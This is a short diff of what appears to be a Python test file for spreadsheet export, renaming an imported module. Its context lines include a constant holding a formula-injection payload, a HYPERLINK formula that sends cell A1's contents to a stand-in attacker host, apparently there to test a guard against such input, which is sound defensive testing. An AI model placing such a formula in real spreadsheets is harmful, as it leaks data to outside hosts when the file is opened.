@@ -9,7 +9,7 @@ import orjson
 import pytest
 from python_calamine import CalamineWorkbook
 
-from casework.spreadsheets import TableFormat, guarded, sheet, whole
+from casework.table_files import TableFormat, guarded, sheet, whole
 
 HEADINGS = {"name": "Client", "count": "How many", "known": "Known"}
 WICKED = '=HYPERLINK("https://evil.example/?"&A1)'
